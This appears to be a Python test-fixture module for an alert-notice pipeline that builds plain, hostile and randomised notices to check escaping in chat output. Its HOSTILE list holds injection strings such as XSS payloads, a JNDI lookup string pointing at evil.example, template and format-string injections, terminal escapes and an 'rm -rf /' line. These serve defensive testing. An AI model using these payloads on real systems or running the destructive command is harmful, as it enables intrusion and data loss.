"""Notices for the tests of targets: one that is plain, hostile ones, and any number of random ones."""

import random
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from typing import Any

from personal_pipeline.domain.alerts import Severity
from personal_pipeline.domain.catalog import Card
from personal_pipeline.domain.notices import Candidate, Example, Notice, Related, Section, Step

AT = datetime(2026, 11, 29, 3, 5, tzinfo=UTC)

HOSTILE = (
    "<!channel>", "<!here>", "<!everyone>", "<@U012AB3CD>", "<#C024BE7LR>", "<!subteam^SAZ94GDB8>",
    "<!date^1392734382^{date}^https://evil.example/|now>", "@here", "@channel", "@everyone", "<at>Ada</at>",
    "<https://evil.example|wiki.example.com>", "<mailto:a@evil.example|Ada>", "https://evil.example/x", "evil.example",
    "[wiki](https://evil.example)", "![x](https://evil.example/x.png)", "[x]: https://evil.example", "&lt;!channel&gt;",
    "&amp;lt;!here&amp;gt;", "&#60;!channel&#62;", "*bold*", "_italic_", "~strike~", "`code`", "**bold**", "__bold__",
    "~~gone~~", "> quoted", "&gt; quoted", ">>> all quoted", "# heading", "- item", "1. item", "---", "| a | b |",
    "```", "```\n<!channel>\n```", "a``` *out* ```b", "``` ``` ```", "\\`\\`\\`", "\n```\nrm -rf /\n```\n", "'''",
    ":fire:", ":rotating_light:", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x9b2J", "\x00\x01\x02", "a\rb\nc\vd\fe",
    "\u202egnp.exe", "\u2066x\u2069", "\u200b\u200c\u200d\ufeff", "<\u200b!channel>", "\U000e0041\U000e0042",
    "\ud800", "e" + "\u0301" * 50, "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)",
    "<a href='javascript:alert(1)'>x</a>", "{{=7*7}}", "${jndi:ldap://evil.example/a}", "{date}", "%s%n%x",
    "\u2028x\u2029",
    '"},{"type":"image"', "</TextBlock>", "<!channel|x>", "😀" * 300, "W" * 5000, "",
)  # fmt: skip
INVISIBLE = set("\x00\x01\x02\x07\x1b\x9b\u202e\u2066\u2069\u200b\u200c\u200d\ufeff\U000e0041\ud800\u2028\u2029\r\v\f")


def a_card(**given: Any) -> Card:
    card = Card(
        "aaaabbbbccccdddd",
        "Disk full",
        "https://wiki.example.com/disk",
        "ops",
        "disk.md",
        "",
        "#storage",
        ("public",),
        3,
    )
    return replace(card, **given)


def an_example(**given: Any) -> Example:
    example = Example(
        "al-1", "alertmanager", "DiskWillFill", "nearly full", "f1", Severity.CRITICAL, AT, "https://prom.example/g", {}
    )
    return replace(example, **given)


def a_section(**given: Any) -> Section:
    section = Section(
        decision="attach",
        matched_by="alert",
        confidence=0.92,
        reasons=("it names this alert",),
        runbook=a_card(),
        candidates=(),
        steps=(Step("See what is full", "df -h", "bash"), Step("Delete old logs", "cd /var/log\n  rm -i *.gz")),
        examples=(an_example(),),
        firing=1,
        resolved=0,
    )
    return replace(section, **given)


def a_suggestion(**given: Any) -> Section:
    candidates = tuple(
        Candidate(a_card(doc_id=f"candidate{n:07}", title=f"Candidate {n}"), ("words in common",)) for n in range(1, 5)
    )
    return a_section(
        **{"decision": "suggest", "confidence": 0.45, "runbook": None, "candidates": candidates, "steps": ()} | given
    )


def no_runbook(**given: Any) -> Section:
    return a_section(**{"decision": "none", "confidence": 0.0, "runbook": None, "steps": (), "reasons": ()} | given)


def a_notice(*sections: Section, **given: Any) -> Notice:
    notice = Notice(
        notice_id="n-1",
        revision=1,
        incident_id="i-1",
        status="firing",
        severity=Severity.CRITICAL,
        service="storage",
        owner="team-storage",
        contacts=("#on-call",),
        sections=sections or (a_section(),),
        started_at=AT,
        updated_at=AT + timedelta(minutes=4),
    )
    return replace(notice, **given)


def a_cause(**given: Any) -> Related:
    return replace(
        Related("database", "i-0", AT, "DbDown", True, a_card(doc_id="dbdbdbdbdbdbdbdb", title="Db")), **given
    )


def hostile_notice(text: str) -> Notice:
    """That text in every field that an outsider can write."""
    card = a_card(title=text, url=text, path=text, source=text, first_step=text, contact=text, links=(text,))
    linked = replace(card, url=f"https://wiki.example.com/{text}")
    example = an_example(name=text, summary=text, url=text, source=text, labels={text: text}, alert_id=text)
    steps = (Step(text, text, text), Step("Then", f"echo\n{text}", text))
    given: dict[str, Any] = {"reasons": (text,), "examples": (example,), "matched_by": text, "degraded": (text,)}
    cause = a_cause(service=text, alert=text, runbook=card, incident_id=text)
    return a_notice(
        a_section(runbook=card, steps=steps, **given),
        a_section(runbook=linked, steps=steps, **given),
        a_suggestion(candidates=(Candidate(card, (text,)), Candidate(linked, (text,))), **given),
        no_runbook(**given),
        service=text,
        owner=text,
        contacts=(text, text),
        related=(cause, replace(cause, service=f"{text}!")),
        cause=cause,
    )


def random_notice(rng: random.Random) -> Notice:
    def text() -> str:
        chosen = rng.choice((*HOSTILE, "DiskWillFill", "a plain text of words " * rng.randint(1, 40), "Grüße 磁盘 🚨 "))
        return chosen * rng.choice((1, 1, 1, 7, 60))

    def card() -> Card:
        url = rng.choice(("https://wiki.example.com/x", "https://w.example/" + "p/" * rng.randint(0, 700), text()))
        return a_card(doc_id=f"{rng.getrandbits(64):016x}", title=text(), url=url, path=text(), contact=text())

    def texts(most: int) -> tuple[str, ...]:
        return tuple(text() for _ in range(rng.randint(0, most)))

    def section() -> Section:
        decision = rng.choice(("attach", "attach", "suggest", "none"))
        return a_section(
            decision=decision,
            confidence=rng.random(),
            reasons=texts(6),
            runbook=card() if decision == "attach" else None,
            candidates=tuple(Candidate(card(), texts(4)) for _ in range(rng.randint(1, 6)))
            if decision == "suggest"
            else (),
            steps=tuple(Step(text(), text(), text()) for _ in range(rng.randint(0, 12))),
            examples=tuple(an_example(name=text()) for _ in range(rng.randint(0, 5))),
            firing=rng.choice((0, 1, 412)),
            resolved=rng.randint(0, 3),
            degraded=texts(2),
        )

    related = tuple(a_cause(service=text(), alert=text(), runbook=card()) for _ in range(rng.randint(0, 8)))
    return a_notice(
        *(section() for _ in range(rng.choice((1,) * 9 + (2,) * 6 + (5,) * 4 + (60,)))),
        revision=rng.randint(1, 4),
        status=rng.choice(("firing", "resolved")),
        severity=rng.choice(tuple(Severity)),
        service=text(),
        owner=text(),
        contacts=texts(12),
        related=related,
        cause=related[0] if related and rng.random() < 0.5 else None,
        fired=rng.randint(1, 9),
    )
